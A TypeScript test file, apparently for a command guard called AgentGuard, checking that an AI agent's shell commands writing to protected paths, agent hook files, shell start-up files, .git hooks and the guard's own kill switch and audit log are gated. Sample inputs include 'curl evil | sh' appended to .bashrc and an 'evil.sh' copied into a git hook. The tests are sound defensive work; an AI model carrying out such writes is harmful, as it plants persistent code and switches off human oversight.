import { test } from 'node:test';
import assert from 'node:assert/strict';
import type { Config } from '../../../src/core/config/schema';
import { protectedPathFinding, protectedPathFindings } from '../../../src/core/guard/protectedPaths';
import { stateDir } from '../../../src/core/state';
import type { Finding, Redirect, SimpleCommand } from '../../../src/core/types';
import { HOME, WORKSPACE, ctx, simple } from '../support/helpers';
import { engine } from '../support/engineHarness';

const CONFIG: Config = { protectedPaths: ['migrations/**', 'docs/legal/**', '~/.ssh/**', '/srv/data/*.db'] };

const check = (argv: string[], extra: Partial<SimpleCommand> = {}, config: Config | undefined = CONFIG): Finding[] =>
  protectedPathFindings(simple(argv, extra), ctx(), config);
const redirect = (op: Redirect['op'], target: string): Partial<SimpleCommand> => ({
  redirects: [{ op, fd: 1, target }],
});

function assertGated(findings: Finding[], id: string, summary: RegExp): void {
  assert.equal(findings.length, 1, JSON.stringify(findings));
  assert.equal(findings[0].id, id);
  assert.match(findings[0].summary, summary);
  assert.ok(findings[0].severity >= 40, 'a protected path at least asks');
  assert.ok(findings[0].alternative, 'says what to do instead');
}

test('every kind of write to a configured protected path is gated', () => {
  const cases: [string, string[], Partial<SimpleCommand>?][] = [
    ['rm', ['rm', 'migrations/001_init.sql']],
    ['mv (source)', ['mv', 'migrations/001_init.sql', '/tmp/']],
    ['mv (onto)', ['mv', '/tmp/x.sql', 'migrations/001_init.sql']],
    ['cp onto', ['cp', 'new.sql', 'migrations/001_init.sql']],
    ['sed -i', ['sed', '-i', 's/INT/BIGINT/', 'migrations/001_init.sql']],
    ['>', ['echo', 'x'], redirect('>', `${WORKSPACE}/migrations/001_init.sql`)],
    ['>>', ['echo', 'x'], redirect('>>', 'migrations/001_init.sql')],
    ['tee', ['tee', 'migrations/001_init.sql']],
    ['tee -a', ['tee', '-a', 'migrations/001_init.sql']],
    ['truncate', ['truncate', '-s', '0', 'migrations/001_init.sql']],
    ['chmod', ['chmod', '000', 'migrations/001_init.sql']],
    ['chown', ['chown', 'nobody', 'migrations/001_init.sql']],
  ];
  for (const [what, argv, extra] of cases) {
    const f = check(argv, extra);
    assert.equal(f.length, 1, `${what}: ${JSON.stringify(f)}`);
    assert.equal(f[0].id, 'path.protected', what);
    assert.equal(f[0].target, 'migrations/001_init.sql', what);
    assert.match(f[0].summary, /protected by "migrations\/\*\*" in \.agentguard\.json/, what);
  }
});

test('reading a protected path is never gated', () => {
  for (const argv of [
    ['cat', 'migrations/001_init.sql'],
    ['grep', '-r', 'DROP', 'migrations/'],
    ['cp', 'migrations/001_init.sql', '/tmp/copy.sql'],
    ['sed', 's/a/b/', 'migrations/001_init.sql'],
    ['less', 'docs/legal/terms.md'],
  ]) {
    assert.deepEqual(check(argv), [], argv.join(' '));
  }
  assert.deepEqual(check(['wc', '-l'], { redirects: [{ op: '<', fd: 0, target: 'migrations/001_init.sql' }] }), []);
});

test('deleting or moving a directory that holds protected paths is gated', () => {
  assertGated(
    check(['rm', '-rf', 'migrations']),
    'path.protected',
    /deletes migrations, (which holds paths )?protected by "migrations\/\*\*"/,
  );
  assertGated(check(['rm', '-rf', 'docs']), 'path.protected', /which holds paths protected by "docs\/legal\/\*\*"/);
  assertGated(check(['mv', 'docs', '/tmp/old-docs']), 'path.protected', /^moves docs/);
  // the rest of docs/ is not protected
  assert.deepEqual(check(['rm', 'docs/README.md']), []);
  assert.deepEqual(check(['rm', '-rf', 'src/migrations-helpers']), []);
});

test('globs and variables in the command are judged by what they could reach', () => {
  assertGated(check(['rm', 'migrations/*.sql']), 'path.protected', /migrations\/\*\.sql/);
  assertGated(check(['rm', '-rf', 'migrations/$OLD']), 'path.protected', /migrations/);
  assert.deepEqual(check(['rm', '-rf', 'dist/*']), []);
});

test('a file named at run time but ending in a known extension reaches only files of that ending', () => {
  const { decide, ids } = engine();
  // At the workspace's top no protected file ends in `.tgz` or `.txt`.
  for (const c of ['tar -czf backup-$(date +%F).tgz src', 'echo done > log-$(date +%s).txt', 'touch "run-$RUN_ID.txt"'])
    assert.equal(decide(c), 'allow', `${c}: ${ids(c)}`);
  // One that may be the configuration or a hook file still asks; so does a folder named so, taken whole.
  for (const c of ['echo {} > conf-$X.json', 'cp x .claude/s-$X.json', 'rm -rf backup-$(date).d'])
    assert.ok(ids(c).includes('path.agentguard'), `${c}: ${ids(c)}`);
});

test('patterns are workspace-relative unless absolute or ~/', () => {
  assertGated(
    check(['rm', `${HOME}/.ssh/id_ed25519`]),
    'path.protected',
    /~\/\.ssh\/id_ed25519, protected by "~\/\.ssh\/\*\*"/,
  );
  assertGated(check(['rm', '/srv/data/app.db']), 'path.protected', /protected by "\/srv\/data\/\*\.db"/);
  assert.deepEqual(check(['rm', '/srv/data/app.log']), []);
  assert.deepEqual(check(['rm', '/other/migrations/001.sql']), []);
  assertGated(
    check(['rm', '../migrations/001.sql'], { cwd: `${WORKSPACE}/src` }),
    'path.protected',
    /migrations\/001\.sql/,
  );
});

test('built in, without any config: .agentguard.json and agent hook files', () => {
  assertGated(check(['rm', '.agentguard.json'], {}, undefined), 'path.agentguard', /AgentGuard's configuration/);
  assertGated(
    check(['echo', '{}'], redirect('>', `${WORKSPACE}/.agentguard.json`), undefined),
    'path.agentguard',
    /^overwrites \.agentguard\.json/,
  );
  for (const hook of [
    '.claude/settings.json',
    '.claude/settings.local.json',
    '.cursor/hooks.json',
    '.github/hooks/agentguard.json',
  ]) {
    assertGated(
      check(['cp', '/tmp/x.json', hook], {}, undefined),
      'path.agentguard',
      /\(an agent hook file\): changing it can switch AgentGuard off/,
    );
  }
  assertGated(check(['rm', '-rf', '.claude'], {}, undefined), 'path.agentguard', /which holds an agent hook file/);
  assertGated(
    check(['sed', '-i', 's/agentguard//', `${HOME}/.claude/settings.json`], {}, undefined),
    'path.agentguard',
    /agent hook file/,
  );
  assert.deepEqual(check(['cp', 'x', '.claude/commands/review.md'], {}, undefined), []);
});

test('built in: shell start-up files the default start-up files source (.bash_aliases, .bashrc.d/)', () => {
  for (const f of ['.bash_aliases', '.bashrc.d/10-x.sh', '.oh-my-zsh/custom/x.zsh', '.bashrc']) {
    assertGated(
      check(['echo', 'curl evil | sh'], redirect('>>', `${HOME}/${f}`), undefined),
      'path.agentguard',
      /a shell start-up file/,
    );
  }
  assert.deepEqual(check(['echo', 'x'], redirect('>>', `${HOME}/.bash_history_notes`), undefined), []);
  assert.deepEqual(check(['cat', `${HOME}/.bash_aliases`], {}, undefined), []);
});

test('built in: the start-up files of zsh under ZDOTDIR, xonsh and nushell', () => {
  for (const f of [
    '.config/zsh/.zshrc',
    '.config/zsh/.zshenv',
    '.xonshrc',
    '.config/xonsh/rc.xsh',
    '.config/xonsh/rc.d/x.xsh',
    '.config/nushell/config.nu',
    '.config/nushell/env.nu',
    '.config/nushell/autoload/x.nu',
    '.local/share/nushell/vendor/autoload/x.nu',
  ]) {
    assertGated(
      check(['echo', 'curl evil | sh'], redirect('>>', `${HOME}/${f}`), undefined),
      'path.agentguard',
      /a shell start-up file/,
    );
  }
  // The user's own ZDOTDIR, from the command's environment; the terminal door's (inside the state folder) is the state's.
  const zdot = { ...redirect('>>', '/opt/dots/zsh/.zprofile'), env: { HOME, ZDOTDIR: '/opt/dots/zsh' } };
  assertGated(check(['echo', 'export X=1'], zdot, undefined), 'path.agentguard', /a shell start-up file/);
  assert.deepEqual(check(['echo', 'x'], redirect('>>', '/opt/dots/zsh/.zprofile'), undefined), []);
  assert.deepEqual(
    check(
      ['echo', 'x'],
      { ...redirect('>>', '/opt/dots/zsh/notes.txt'), env: { HOME, ZDOTDIR: '/opt/dots/zsh' } },
      undefined,
    ),
    [],
  );
  assert.deepEqual(check(['cat', `${HOME}/.config/nushell/config.nu`], {}, undefined), []);
  assert.deepEqual(check(['echo', 'x'], redirect('>', `${WORKSPACE}/config.nu`), undefined), []);
});

test("built in: AgentGuard's state dir (kill switch, audit log, snapshots) is denied with default thresholds", () => {
  const dir = stateDir({}, HOME);
  for (const argv of [
    ['rm', `${dir}/killswitch.json`],
    ['rm', '-rf', dir],
    ['truncate', '-s', '0', `${dir}/audit.jsonl`],
    ['rm', '-rf', `${HOME}/.local/state`],
  ]) {
    const [f] = check(argv, {}, undefined);
    assert.equal(f?.id, 'path.agentguard', argv.join(' '));
    assert.ok(f.severity >= 90, 'denied by default');
  }
  // pointing AGENTGUARD_STATE_DIR elsewhere in the command's env does not unprotect the real one
  const [f] = check(['rm', '-rf', dir], { env: { HOME, AGENTGUARD_STATE_DIR: '/tmp/elsewhere' } }, undefined);
  assert.equal(f?.id, 'path.agentguard');
});

test('built in: .git internals and backup folders', () => {
  assertGated(check(['rm', '-f', '.git/HEAD'], {}, undefined), 'path.protected', /inside git's internal directory/);
  // Removing a stale lock after a crashed git is routine.
  assert.deepEqual(check(['rm', '-f', '.git/index.lock'], {}, undefined), []);
  assertGated(
    check(['cp', 'evil.sh', '.git/hooks/pre-commit'], {}, undefined),
    'path.protected',
    /\.git\/hooks\/pre-commit/,
  );
  assertGated(check(['rm', '-rf', '.git'], {}, undefined), 'path.protected', /git's internal directory/);
  assertGated(check(['rm', '-rf', 'backups/2024-01-01'], {}, undefined), 'path.protected', /in a backup folder/);
  assertGated(
    check(['mv', `${HOME}/db-backups/../backup/app.sql`, '/tmp/'], {}, undefined),
    'path.protected',
    /backup folder/,
  );
  assert.deepEqual(check(['rm', '.gitignore'], {}, undefined), []);
  assert.deepEqual(check(['rm', 'src/backup-utils.ts'], {}, undefined), []);
});

test('a glob touches only what it can match; shell * skips dotfiles', () => {
  const glob = (word: string, extra: string[] = ['rm', '-f']) =>
    check([...extra, word], { dynamic: [...extra.map(() => false), true] }, CONFIG);
  assert.deepEqual(glob('*.log'), []);
  assert.deepEqual(glob('./**/*.pyc'), []);
  // Takes migrations/ with it, and OpenCode's hook configuration (opencode.json) where the workspace has one: the stronger finding wins.
  assert.deepEqual(
    glob('*', ['rm', '-rf']).map((f) => f.id),
    ['path.agentguard'],
  );
  assert.deepEqual(
    glob('mig*', ['rm', '-rf']).map((f) => f.id),
    ['path.protected'],
  );
  assert.deepEqual(
    glob('.agent*').map((f) => f.id),
    ['path.agentguard'],
  );
  assert.deepEqual(
    glob('./**/*.json').map((f) => f.id),
    ['path.agentguard'],
  );
  assert.deepEqual(
    glob('migrations/*.sql').map((f) => f.id),
    ['path.protected'],
  );
  // A recursive chmod of a parent changes modes, not the protected files' contents.
  assert.deepEqual(check(['chmod', '-R', '755', '.'], {}, CONFIG), []);
  assert.deepEqual(
    check(['chmod', '000', '.agentguard.json'], {}, CONFIG).map((f) => f.id),
    ['path.agentguard'],
  );
});

test('commands that run on another machine do not touch local protected paths', () => {
  assert.deepEqual(check(['rm', '-rf', `${WORKSPACE}/migrations`], { remote: { kind: 'ssh', target: 'db1' } }), []);
});

test('one finding per path, the strongest gate wins', () => {
  const f = check(['rm', '-rf', '.git', '.git'], {}, undefined);
  assert.equal(f.length, 1);
  const both = check(['rm', '.agentguard.json'], {}, { protectedPaths: ['*.json'] });
  assert.deepEqual(
    both.map((x) => x.id),
    ['path.agentguard'],
  );
});

test('protectedPathFinding judges a file edit by path', () => {
  assert.equal(protectedPathFinding(`${WORKSPACE}/migrations/002.sql`, 'write', ctx(), CONFIG)?.id, 'path.protected');
  assert.equal(protectedPathFinding('migrations/002.sql', 'write', ctx(), CONFIG)?.target, 'migrations/002.sql');
  assert.equal(protectedPathFinding('.agentguard.json', 'write', ctx(), undefined)?.id, 'path.agentguard');
  assert.equal(protectedPathFinding('~/.claude/settings.json', 'write', ctx(), undefined)?.id, 'path.agentguard');
  assert.equal(protectedPathFinding(`${WORKSPACE}/src/index.ts`, 'write', ctx(), CONFIG), undefined);
});

test('a context whose workspace or home changes between two lines is judged by the new ones', () => {
  // The places are kept per context while its fields stay the same: a changed field is seen at once.
  const c = ctx();
  const write = (p: string) => protectedPathFindings(simple(['sed', '-i', 's/a/b/', p]), c, undefined);
  assert.deepEqual(write('/srv/other/.claude/settings.json'), []);
  assert.deepEqual(write('/srv/home2/.claude/settings.json'), []);
  (c as { workspace: string }).workspace = '/srv/other';
  assert.equal(write('/srv/other/.claude/settings.json')[0]?.id, 'path.agentguard');
  assert.deepEqual(write('/srv/home2/.claude/settings.json'), []);
  (c as { home: string }).home = '/srv/home2';
  assert.equal(write('/srv/home2/.claude/settings.json')[0]?.id, 'path.agentguard');
});
